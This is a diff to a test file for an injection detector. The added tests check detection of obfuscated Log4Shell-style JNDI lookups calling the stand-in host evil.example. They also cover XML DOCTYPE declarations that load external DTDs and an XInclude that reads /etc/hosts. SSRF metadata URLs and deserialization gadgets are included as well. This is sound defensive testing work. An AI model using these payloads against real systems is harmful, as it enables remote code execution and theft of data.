@@ -136,7 +136,13 @@ const ATTACKS: Readonly<Record<ThreatCategory, readonly string[]>> = {
   ],
   ssrf: ['http://169.254.169.254/latest/', 'http://0x7f000001/', 'gopher://x/', 'http://metadata.google.internal/'],
   deserialization: ['O:4:"User":1:{s:1:"a";i:1;}', 'rO0ABXNyABFqYXZh', '_$$ND_FUNC$$_function(){}()'],
-  lookup: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:dns://x}', '${${::-j}${::-n}di:ldap://x}'],
+  lookup: [
+    '${jndi:ldap://evil.example/a}',
+    '${${lower:j}ndi:dns://x}',
+    '${${::-j}${::-n}di:ldap://x}',
+    `\${\${${'a'.repeat(300)}:-j}ndi:ldap://x}`,
+    `\${${'a'.repeat(300)}\${lower:j}ndi:ldap://x}`,
+  ],
   graphql: ['{__schema{types{name}}}'],
 };
 
@@ -308,6 +314,11 @@ describe('inspectText', () => {
     "w'h'",
     'socat x',
     '${!a',
+    '<!doctype ',
+    '<!doctype a public "',
+    '<include "',
+    '${a',
+    '$a{',
   ])(
     'linear_time: a mebibyte of %j is inspected',
     (unit) => expect(inspectText(unit.repeat(Math.ceil(1_048_576 / unit.length))).length).toBeGreaterThanOrEqual(0),
@@ -341,6 +352,33 @@ describe('inspectText', () => {
 });
 
 describe('inspectXml', () => {
+  const type = (rest: string): string | null => inspectXml(`<!DOCTYPE ${rest}><a/>`)[0]?.category ?? null;
+  const DTD = '"http://evil.example/a.dtd"';
+
+  it.each([
+    `a SYSTEM ${DTD}`,
+    `a.b SYSTEM ${DTD}`,
+    `\u00e9 SYSTEM ${DTD}`,
+    `${'a'.repeat(500)} SYSTEM ${DTD}`,
+    `a PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" ${DTD}`,
+    `a PUBLIC '' ${DTD}`,
+    'a SYSTEM "http://www.w3.org.evil.example/a.dtd"',
+    'a [<!ELEMENT a ANY>]',
+  ])('finds a document type that reaches out: %s', (rest) => expect(type(rest)).toBe('xml'));
+
+  it.each([
+    'html',
+    'html SYSTEM "about:legacy-compat"',
+    'HTML PUBLIC "-//IETF//DTD HTML 2.0//EN"',
+    'svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
+    'plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"',
+  ])('takes a document type of nobody else for none: %s', (rest) => expect(type(rest)).toBeNull());
+
+  it('finds an inclusion whatever attributes stand before the one that leads out', () => {
+    for (const before of ['parse="text"', `a="${'b'.repeat(300)}"`, 'a=">"', "a='\"'"])
+      expect(inspectXml(`<xi:include ${before} href="file:///etc/hosts"/>`)[0]?.category, before).toBe('xml');
+  });
+
   it('finds what XML does to its parser, and takes elements for elements', () => {
     expect(inspectXml('<!DOCTYPE a [<!ENTITY b SYSTEM "x">]><a>&b;</a>')[0]?.category).toBe('xml');
     expect(inspectXml('<object><link href="x"/><form><script>text</script></form></object>')).toEqual([]);
